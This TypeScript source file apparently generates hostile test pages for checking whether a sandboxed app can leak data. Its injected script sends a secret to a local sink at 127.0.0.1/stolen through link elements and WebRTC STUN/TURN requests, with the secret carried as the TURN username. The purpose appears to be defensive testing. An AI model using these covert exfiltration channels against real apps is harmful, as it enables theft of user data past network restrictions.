import type { Sink } from "./sink.ts";
import type { WayOut } from "./ways-out.ts";

/** A way out and the server that waits at its end. */
export interface Attempt {
  readonly way: WayOut;
  readonly sink: Sink;
}

/** The files of an app that makes some attempts; `index.html` makes them, or leads to the file that does. */
export function toHostileFiles(attempts: readonly Attempt[], secret: string): Record<string, string> {
  const bodies = attempts.map(({ way, sink }) => toBody(way, toScript({ way, sink }, secret), toUrl(sink, secret)));
  const page = bodies.map(({ html }) => html).join("\n");
  const files = Object.fromEntries(bodies.flatMap((body) => Object.entries(body.files)));
  return { ...files, "index.html": toPage(page) };
}

function toBody(way: WayOut, script: string, url: string): { html: string; files: Record<string, string> } {
  const direct = `${script.split("/*--*/")[0]} rtc(window) }`;
  const fill = (text: string): string =>
    text
      .replaceAll("{url}", url)
      .replaceAll("{script}", script)
      .replaceAll("{quoted}", direct.replaceAll("&", "&amp;").replaceAll('"', "&quot;"));
  const files = Object.fromEntries(Object.entries(way.files ?? {}).map(([name, text]) => [name, fill(text)]));
  const [first] = Object.keys(files);
  const code = first === undefined ? script : `location.href = ${JSON.stringify(first)}`;
  return { html: `${fill(way.markup ?? "")}<script>${code}</script>`, files };
}

function toPage(body: string): string {
  return `<!doctype html>\n<html lang="en"><head><meta charset="utf-8"><title>A nice app</title></head><body><h1>A nice app</h1>${body}</body></html>`;
}

function toUrl(sink: Sink, secret: string): string {
  return `http://127.0.0.1:${sink.port}/stolen?${secret}`;
}

/** Without `<`, `>` and `&`, so that it can stand in XML too. */
function toScript({ way, sink }: Attempt, secret: string): string {
  const place = `${sink.address}:${sink.port}`;
  const ice = JSON.stringify([
    { urls: [`stun:${place}`] },
    { urls: [`turn:${place}?transport=udp`, `turn:${place}?transport=tcp`], username: secret, credential: "x" },
  ]);
  return [
    `{ const SECRET = ${JSON.stringify(secret)}, url = ${JSON.stringify(toUrl(sink, secret))};`,
    `const link = function (rel, more) { const l = document.createElement("link"); Object.assign(l, more); l.rel = rel; l.href = url; document.head.append(l); };`,
    `const rtc = function (w) { const c = new w.RTCPeerConnection({ iceServers: ${ice} }); c.createDataChannel("x"); c.createOffer().then(function (o) { return c.setLocalDescription(o); }); };`,
    `const inner = "\\u003cbody>\\u003cscript>" + document.currentScript.textContent.split("/*--*" + "/")[0] + " rtc(window) }\\u003c/script\u003e";`,
    `/*--*/ ${way.script ?? ""} }`,
  ].join("\n");
}
